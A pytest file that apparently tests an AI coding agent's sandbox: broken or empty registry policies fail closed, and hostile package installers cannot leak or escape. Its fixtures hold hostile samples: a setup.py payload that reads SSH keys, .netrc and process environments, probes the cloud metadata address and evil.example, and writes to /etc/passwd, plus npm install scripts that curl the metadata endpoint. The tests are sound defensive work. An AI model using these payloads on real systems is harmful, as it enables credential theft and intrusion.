"""C03, C07: a policy that is empty or cannot be read is closed; installers stay inside."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import docker
import pytest

from sandbox.dependencies import Wanted, read
from sandbox.docker import DockerSandbox
from sandbox.egress import Egress
from sandbox.errors import PrepareFailed, RegistryRefused
from sandbox.images import recipe
from sandbox.prepare import PrepareLimits, Step
from sandbox.prepared import every, remove, tag_of
from sandbox.registries import parse
from tests.adi_kit import adi
from tests.containment_kit import LIMITS, Contained, pack
from tests.index_kit import node_package, sdist, serve_index, wheel
from tests.test_sandbox_egress import ask

pytestmark = [pytest.mark.containment]
container = pytest.mark.container

ROOM = PrepareLimits(room_bytes=64 * 1024**2, memory_bytes=512 * 1024**2, install_s=90)
COMMANDS = (["run", "mend it"], ["prepare", "--yes"], ["review"], ["doctor"], ["undo"])


class Texts:
    """Dependency files in memory."""

    def __init__(self, **files: str) -> None:
        self.files = {name.replace("_", ".", 1): text.encode() for name, text in files.items()}

    def paths(self) -> list[str]:
        return sorted(self.files)

    def read(self, path: str) -> bytes:
        return self.files[path]


def step_of(contained: Contained, wanted: Wanted, registries: list[str], base: str = "") -> Step:
    """A step with a tag of the case's own: the key holds the index's port."""
    assert contained.client is not None
    base = base or recipe("python").tag
    tag = tag_of(wanted.key(base, [*registries, contained.run_id]))
    return Step(
        contained.client, base, tag, wanted, parse(registries), contained.run_id, limits=ROOM
    )  # fmt: skip


@contextmanager
def kept(step: Step) -> Iterator[str]:
    """The step's image, removed again."""
    try:
        step.run()
        yield step.tag
    finally:
        remove(step.client, step.tag)


def inside(contained: Contained, image: str, command: str) -> str:
    """Output of a command in a usual sandbox of the image."""
    with DockerSandbox(
        pack({"a.py": b""}),
        image=image,
        run_id=contained.run_id,
        limits=replace(LIMITS, output_bytes=65536),
        client=contained.client,
    ) as made:
        result = made.run(command, timeout_s=20)
    return result.output.decode()


def break_config(home: Path, how: str) -> None:
    config = home / "config.toml"
    if how == "no TOML":
        config.write_text("[sandbox\nregistries = []\n")
    elif how == "no UTF-8":
        config.write_bytes(b"[sandbox]\nimage = '\xff'\n")
    elif how == "a directory":
        config.mkdir()
    elif how == "a link to nowhere":
        config.symlink_to(home / "gone.toml")
    elif how == "a loop of links":
        config.symlink_to(config)
    elif how == "a wrong type":
        config.write_text("[sandbox]\nregistries = 3\n")
    else:
        assert how == "no table"
        config.write_text("sandbox = 'closed'\n")


BROKEN = (
    "no TOML", "no UTF-8", "a directory", "a link to nowhere", "a loop of links", "a wrong type", "no table",
)  # fmt: skip


@pytest.mark.parametrize("how", BROKEN)
def test_sandbox_c03_unreadable_policy_starts_nothing(
    make_repo: Callable[..., Path], adi_home: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    """No command falls back to defaults: each is refused with the reason, before anything is opened."""
    from agent.cli import invoke
    from agent.errors import UsageError

    monkeypatch.chdir(make_repo({"requirements.txt": "x\n", "test_a.py": "def test_a(): pass\n"}))
    break_config(adi_home, how)
    before = sorted(adi_home.iterdir())
    for command in COMMANDS:
        with pytest.raises(UsageError) as refused:
            invoke(list(command))
        assert refused.value.exit_code == 2
        assert "config.toml" in str(refused.value) or "sandbox" in str(refused.value), command
        assert refused.value.hint
    assert sorted(adi_home.iterdir()) == before


@pytest.mark.parametrize(
    ("environ", "says"),
    [
        ({"ADI_SANDBOX__REGISTRIES": "[]"}, "empty list: nothing may be reached"),
        ({"ADI_SANDBOX__REGISTRIES": ""}, "setting sandbox.registries"),
        ({"ADI_SANDBOX__REGISTRIES": "https://pypi.org"}, "holds no JSON list"),
        ({"ADI_SANDBOX__REGISTRIES": '["*"]'}, "is refused"),
        ({"ADI_SANDBOX__REGISTRIES": '["https://pypi.org"]'}, "names no index for pypi"),
        ({"ADI_SANDBOX__REGISTRY": "[]"}, "unknown setting sandbox.registry"),
    ],
)
@container
def test_sandbox_c03_empty_or_doubtful_list_is_closed(
    make_repo: Callable[..., Path], environ: dict[str, str], says: str
) -> None:
    """CVE-2025-66479: an empty list once meant that everything is open."""
    repo = make_repo({"requirements.txt": "x\n", "test_a.py": "def test_a(): pass\n"})
    done = adi(repo, "prepare", "--yes", **environ)
    assert done.returncode == 2, done.stderr
    assert says in done.stderr
    assert "hint: " in done.stderr
    assert "Prepared" not in done.stderr


def test_sandbox_c03_a_proxy_without_a_list_passes_nothing(contained: Contained) -> None:
    with pytest.raises(RegistryRefused):
        parse([])
    with Egress(contained.tmp, []) as egress:
        for host in ("pypi.org:443", "127.0.0.1:80", "localhost:22"):
            assert ask(contained.tmp, f"CONNECT {host} HTTP/1.1\r\n\r\n".encode()).startswith(b"HTTP/1.1 403")
    assert len(egress.asked) == 3
    assert not any(one.allowed for one in egress.asked)


@container
def test_sandbox_c03_a_repository_cannot_open_the_network(make_repo: Callable[..., Path]) -> None:
    """Its own configuration, requirements and .npmrc name other hosts: named, and not followed."""
    repo = make_repo(
        {
            ".adi/config.toml": "[sandbox]\nregistries = ['pypi+https://evil.example/simple']\n",
            "requirements.txt": "--index-url https://evil.example/\n--trusted-host evil.example\nadi-x\n"
            "adi-y @ https://evil.example/y.whl\ngit+ssh://evil.example/z\n",
            "test_a.py": "def test_a(): pass\n",
        }
    )
    done = adi(repo, "prepare")
    assert done.returncode == 4, done.stderr
    assert "sandbox.registries is refused: a repository may not set it" in done.stderr
    assert "--index-url is ignored" in done.stderr
    assert "--trusted-host is ignored" in done.stderr
    assert "'adi-y @ https://evil.example/y.whl' is left out" in done.stderr
    assert "'git+ssh://evil.example/z' is left out" in done.stderr
    (hosts,) = [line for line in done.stderr.splitlines() if line.strip().startswith("hosts:")]
    assert "evil" not in hosts


SETUP = r"""
import glob, json, os, socket, subprocess
REPORT = {"env": dict(os.environ), "read": {}, "reached": [], "wrote": []}
for place in ("~/.netrc", "~/.ssh/id_rsa", "/root/.netrc", "%(home)s/canary", "/var/run/docker.sock",
              "/proc/1/environ", "/proc/self/mountinfo", *glob.glob("/gate/*"), *glob.glob("/work/*")):
    try:
        with open(os.path.expanduser(place), "rb") as file:
            REPORT["read"][place] = file.read(2000).decode("latin-1")
    except OSError as error:
        pass
for host, port in (("169.254.169.254", 80), ("%(gateway)s", 22), ("1.1.1.1", 443), ("%(gateway)s", %(port)d)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        REPORT["reached"].append(host)
    except OSError:
        pass
for host in ("evil.example:443", "169.254.169.254:80", "169.254.169.254:443", "%(gateway)s:%(port)d",
             "127.0.0.1:22", "registry.npmjs.org:443"):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as proxy:
        proxy.sendall(("CONNECT %%s HTTP/1.1\r\n\r\n" %% host).encode())
        if not proxy.recv(100).startswith(b"HTTP/1.1 403"):
            REPORT["reached"].append("proxy " + host)
for place in ("/etc/passwd", "/usr/bin/env", "/usr/lib/python3/dist-packages/pytest/__init__.py",
              "%(home)s/marker", "/gate/marker", "/marker", "/etc/ld.so.preload"):
    try:
        with open(place, "ab") as file:
            file.write(b"payload")
        REPORT["wrote"].append(place)
    except OSError:
        pass
try:
    os.unlink("/gate/proxy.sock")
    REPORT["wrote"].append("socket")
except OSError:
    pass
os.makedirs("/deps/odd", exist_ok=True)
with open("/deps/odd/root", "w") as file:
    file.write("#!/bin/sh\n")
os.chmod("/deps/odd/root", 0o6777)
os.mkfifo("/deps/odd/fifo")
os.symlink("/etc/shadow", "/deps/odd/shadow")
os.symlink("../../../../../../etc", "/deps/odd/up")
quiet = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
subprocess.Popen(["setsid", "sleep", "%(marker)s"], **quiet)
with open("module.py", "w") as file:
    file.write("REPORT = " + repr(json.dumps(REPORT)))
"""


def gateway(client: docker.APIClient) -> str:
    """This machine as containers on the default bridge would see it."""
    return str(client.inspect_network("bridge")["IPAM"]["Config"][0].get("Gateway") or "192.0.2.1")


@container
def test_sandbox_c07_setup_py_payload_finds_and_reaches_nothing(
    contained: Contained, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hostile setup.py finds no secret, reaches no other host and writes nothing outside."""
    assert contained.client is not None
    canary = f"canary-{contained.marker}"
    for name in (
        "PIP_INDEX_URL",
        "AWS_SECRET_ACCESS_KEY",
        "SSH_AUTH_SOCK",
        "npm_config__auth",
        "HTTPS_PROXY",
    ):
        monkeypatch.setenv(name, f"http://{canary}")
    home = contained.home
    (home / "canary").write_text(canary)
    (home / ".netrc").write_text(f"machine 127.0.0.1 login x password {canary}\n")
    monkeypatch.setenv("HOME", str(home))
    with serve_index({}) as index:
        words = {"home": home, "gateway": gateway(contained.client), "port": index.port}
        index.files["hostile-1.0.tar.gz"] = sdist("hostile", SETUP % {**words, "marker": contained.marker})
        wanted = read(Texts(requirements_txt="hostile\n"), "python")
        step = step_of(contained, wanted, index.registries)
        with kept(step) as image:
            text = inside(contained, image, "python3 -c 'import hostile; print(hostile.REPORT)'")
            left = inside(
                contained, image, "find /deps/odd -printf '%y %m %U %p %l\\n'; "
                "grep -rl canary- /deps | sed s/^/FOUND/; "
                "sha256sum /etc/passwd /usr/bin/env; ls /etc/ld.so.preload /marker; pgrep sleep -a",
            )  # fmt: skip
            clean = inside(contained, step.base, "sha256sum /etc/passwd /usr/bin/env")
            config = contained.client.inspect_image(image)["Config"]
            base = contained.client.inspect_image(step.base)["Config"]
        host = "".join(path.read_text("latin-1") for path in home.iterdir() if path.is_file())
    report = json.loads(text)
    assert canary not in text + json.dumps(index.asked)
    assert contained.home.name not in json.dumps(report["env"]) + report["read"].get("/proc/1/environ", "")
    assert set(report["read"]) <= {
        "/proc/1/environ", "/proc/self/mountinfo", "/work/plain.txt", "/work/hashed.txt",
        "/work/constraints.txt", "/work/ca.pem",
    }  # fmt: skip
    assert report["reached"] == []
    assert report["wrote"] == []
    assert "payload" not in host
    assert {one.host for one in step.asked if not one.allowed} == {
        "evil.example", "169.254.169.254:80", "169.254.169.254", f"{words['gateway']}:{index.port}",
        "127.0.0.1:22", "registry.npmjs.org",
    }  # fmt: skip
    assert [one.host for one in step.asked if one.allowed] == [f"127.0.0.1:{index.port}"]
    rows = [line.split(" ") for line in left.splitlines() if "/deps/odd" in line and line[0] in "dflps"]
    assert {row[0] for row in rows} == {"d", "f", "l"}, "the FIFO is not kept"
    assert {row[2] for row in rows} == {"0"}, "root owns what is kept"
    assert ["f", "755", "0", "/deps/odd/root", ""] in rows, "no set-user bit is kept"
    assert clean.strip() in left
    assert "FOUND" not in left
    assert {key: config.get(key) for key in ("Env", "Entrypoint", "User", "Volumes", "OnBuild")} == {
        key: base.get(key) for key in ("Env", "Entrypoint", "User", "Volumes", "OnBuild")
    }
    assert not contained.marked()


@container
def test_sandbox_c07_a_payload_cannot_fill_the_disk_or_stay(contained: Contained) -> None:
    """More than the room is refused by the kernel; a fork bomb and a sleeper end with the step."""
    setup = (
        "import os, subprocess\n"
        "quiet = dict.fromkeys(('stdin', 'stdout', 'stderr'), subprocess.DEVNULL)\n"
        f"subprocess.Popen(['setsid', 'sleep', '{contained.marker}'], **quiet)\n"
        "try:\n    os.posix_fallocate(os.open('/deps/big', os.O_CREAT | os.O_WRONLY), 0, 10**12)\n"
        "finally:\n    open('/deps/more', 'wb').write(b'x' * (100 * 1024**2))\n"
    )
    with serve_index({"greedy-1.0.tar.gz": sdist("greedy", setup)}) as index:
        step = step_of(contained, read(Texts(requirements_txt="greedy\n"), "python"), index.registries)
        with pytest.raises(PrepareFailed, match="larger than its room") as failed, kept(step):
            pass
    assert "prepare_mb" in failed.value.hint
    assert step.tag not in {one.tag for one in every(step.client)}
    assert not contained.marked()


@container
def test_sandbox_c07_a_typo_is_shown_and_nothing_is_kept(make_repo: Callable[..., Path]) -> None:
    """A name that a model made up: the person sees it beforehand, the index says no, no image is left."""
    repo = make_repo({"requirements.txt": "reqeusts-toolz>=2\n", "test_a.py": "def test_a(): pass\n"})
    with serve_index({"requests-1.0-py3-none-any.whl": wheel("requests", {})}) as index:
        listed = json.dumps(index.registries)
        shown = adi(repo, "prepare", ADI_SANDBOX__REGISTRIES=listed)
        assert shown.returncode == 4
        assert index.asked == [], "nothing is asked of the index before a person agrees"
        assert "    reqeusts-toolz >=2\n" in shown.stderr
        done = adi(repo, "prepare", "--yes", ADI_SANDBOX__REGISTRIES=listed)
    assert done.returncode == 6, done.stderr
    assert "the index does not have it" in done.stderr
    assert "reqeusts-toolz" in done.stderr
    assert "is it a typo?" in done.stderr
    assert index.asked == ["/simple/reqeusts-toolz/"]
    assert done.stdout == "", "no environment is named, for none was kept"


@container
def test_sandbox_c07_postinstall_payload_does_not_run(contained: Contained) -> None:
    """npm's install scripts are the usual way in: none is run, and the package works without."""
    assert contained.client is not None
    base = recipe("node").tag
    if not contained.client.images(name=base):
        pytest.skip(f"no image {base} here; make it: adi run in a Node repository")
    script = "touch /deps/marker; curl http://169.254.169.254/; echo ran > /deps/node_modules/ran"
    scripts = {"preinstall": script, "install": script, "postinstall": script}
    tarball = node_package("hostile", {"index.js": "module.exports = 7;\n"}, scripts=scripts)
    with serve_index({"hostile.tgz": tarball}) as index:
        manifest = json.dumps({"scripts": scripts, "dependencies": {"hostile": "^1.0.0"}})
        step = step_of(contained, read(Texts(package_json=manifest), "node"), index.registries, base)
        with kept(step) as image:
            out = inside(
                contained, image, "node -e 'console.log(require(\"hostile\"))'; ls -A /deps; "
                "ls node_modules; find / -name ran -o -name marker 2>/dev/null",
            )  # fmt: skip
    assert out.split() == ["7", "node_modules", "package-lock.json", "package.json", "hostile"]
    assert [one.host for one in step.asked] == [f"127.0.0.1:{index.port}"]


def test_sandbox_c07_names_are_shown_inert_and_complete() -> None:
    """What is shown is what is installed: a control character or a second name makes no requirement."""
    text = "good\nba\x1b[8md\nreal fake\n-e git+https://x/y\n./local\nname;os_name=='x'\\\n  # hidden\n"
    text += "ok==1.0,<2\n"
    wanted = read(Texts(requirements_txt=text), "python")
    names = [package.name for package in wanted.packages]
    assert names == ["good", "name", "ok"]
    given = wanted.inputs["plain.txt"].decode().splitlines()
    assert [line.partition(";")[0].partition("==")[0] for line in given] == names
    assert len(wanted.left_out) == 4


def test_sandbox_c07_reading_dependency_files_runs_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    setup = f"import os\nos.system('touch {marker}')\nfrom setuptools import setup\n"
    setup += "setup(install_requires=['a'])\n"
    wanted = read(Texts(setup_py=setup, pyproject_toml="[project]\nname='p'\ndependencies=['b']\n"), "python")
    assert {package.name for package in wanted.packages} == {"a", "b"}
    assert not marker.exists()
